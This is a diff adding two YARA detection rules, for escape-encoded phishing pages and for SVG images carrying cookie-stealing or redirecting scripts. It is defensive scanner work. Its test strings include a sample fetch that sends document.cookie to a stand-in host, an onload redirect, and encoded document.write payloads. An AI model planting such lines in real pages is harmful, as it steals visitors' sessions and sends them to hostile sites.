@@ -43,3 +43,43 @@ rule script_from_char_codes {
   condition:
     any of them
 }
+
+rule page_written_from_escapes {
+  meta:
+    id = "page-script/page-from-escapes"
+    title = "A whole page is written from escapes, so that nobody reads it"
+    family = "skimmer-or-phish"
+    severity = "high"
+    confidence = "likely"
+    description = "The head or a form of a page is kept in percent escapes or base64 and written by a script: phishing pages hide so from mail filters and scanners."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1027/"
+    must_match = "<script>/* inert */ document.write(unescape('%3Chtml%3E%3Chead%3E%3Ctitle%3Einert%3C/title%3E'));</script>"
+    must_match = "<script>/* inert */ document.write(atob('PCFET0NUWVBFIGh0bWw+aW5lcnQ='));</script>"
+    must_not = "<script>document.write(unescape('%3Cp class=\"a\"%3E'));</script>"
+  strings:
+    $written = /document\.write(ln)?\s?\(\s?(unescape|decodeURIComponent|decodeURI|(window\.)?atob)\s?\(\s?['"](%0[AD]){0,4}(%3C(!|%21)?(%[0-9A-F]{2}|\w)?(%[0-9A-F]{2}){0,3}(doctype|html|head|body|form|title)\b|%3C%(68%74%6D%6C|21%64|21%44|66%6F%72%6D|48%54%4D%4C)|PCFET0NUWVBF|PCFkb2N0eXBl|PGh0bWw|PEhUTUw|PGZvcm0)/ nocase
+  condition:
+    $written
+}
+
+rule script_in_picture_steals {
+  meta:
+    id = "page-script/picture-with-script"
+    title = "An SVG picture sends visitors away or their cookies elsewhere"
+    family = "injected"
+    severity = "high"
+    confidence = "likely"
+    description = "A vector picture holds a script that reads the cookies or leads to another host: opened by itself, it runs in the name of the site."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1027/017/"
+    must_match = "<svg xmlns='http://www.w3.org/2000/svg'><script>/* inert */ fetch('https://inert.example.test/?c='+document.cookie)</script></svg>"
+    must_match = "<svg onload=\"/* inert */ location='https://inert.example.test/'\"></svg>"
+    must_not = "<svg xmlns='http://www.w3.org/2000/svg'><script>var n = 0; setInterval(turn, 50);</script></svg>"
+  strings:
+    $svg = /^(\xef\xbb\xbf)?\s{0,10}(<\?xml[^>]{0,100}\?>\s{0,10})?(<!DOCTYPE svg[^>]{0,200}>\s{0,10})?<svg\b/ nocase
+    $cookie = /<script\b[^<]{0,400}(fetch|XMLHttpRequest|sendBeacon|\.src\s?=|location)[^<]{0,200}document\.cookie/ nocase
+    $away = /(onload\s?=\s?["'][^"']{0,60}|<script\b[^<]{0,300})(location(\.href)?\s?=|location\.(replace|assign)\s?\()\s?["'`]?(https?:)?\/\//  nocase
+  condition:
+    filesize < 256KB and $svg at 0 and any of ($cookie, $away)
+}
